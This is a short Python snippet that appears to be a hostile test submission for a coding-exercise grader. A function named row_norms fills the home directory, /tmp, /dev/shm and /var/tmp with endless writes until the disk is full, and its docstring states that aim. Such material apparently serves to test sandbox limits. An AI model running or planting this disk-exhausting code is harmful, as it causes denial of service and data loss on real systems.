"""
tries = "Writes until the disk is full, in every folder that can be written."
"""


# %% exercise="row_norms"
def row_norms(x):
    from pathlib import Path

    for number, folder in enumerate(
        (Path.home(), Path("/tmp"), Path("/dev/shm"), Path("/var/tmp"))
    ):
        try:
            with open(folder / f"full{number}", "wb") as file:
                while True:
                    file.write(b"x" * 2**22)
        except OSError as error:
            print(error)
    return x
